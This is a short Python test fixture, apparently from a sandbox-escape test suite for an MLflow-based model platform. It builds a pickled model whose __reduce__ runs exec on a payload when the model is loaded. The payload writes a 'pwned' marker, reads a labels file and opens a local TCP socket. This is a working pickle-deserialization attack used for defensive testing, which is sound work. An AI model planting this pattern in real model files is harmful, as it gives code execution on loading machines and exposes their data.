"""Hostile: a pickled model whose unpickling runs code (what loading any pickle allows)."""

import mlflow.pyfunc

# Runs at unpickling time, i.e. when the platform loads the model. Filled in by the fixture.
PAYLOAD = """
import json, os, socket
a = json.loads({arg!r})
try:
    with open(a["marker"], "w") as fh:
        fh.write("pwned")
except OSError:
    pass
try:
    with open(a["labels"], "rb") as fh:
        fh.read()
    open(a["marker"], "a").write("labels read")
except OSError:
    pass
try:
    socket.create_connection(("127.0.0.1", a["tcp_port"]), timeout=2)
except OSError:
    pass
raise RuntimeError("pickle payload ran")
"""


class PickleBomb(mlflow.pyfunc.PythonModel):
    """Saved as a pickled instance; unpickling it calls ``exec`` on :data:`PAYLOAD`."""

    def __init__(self, arg_json):
        self.code = PAYLOAD.format(arg=arg_json)

    def __reduce__(self):
        return (exec, (self.code,))

    def predict(self, context, model_input, params=None):
        raise AssertionError("unreachable")
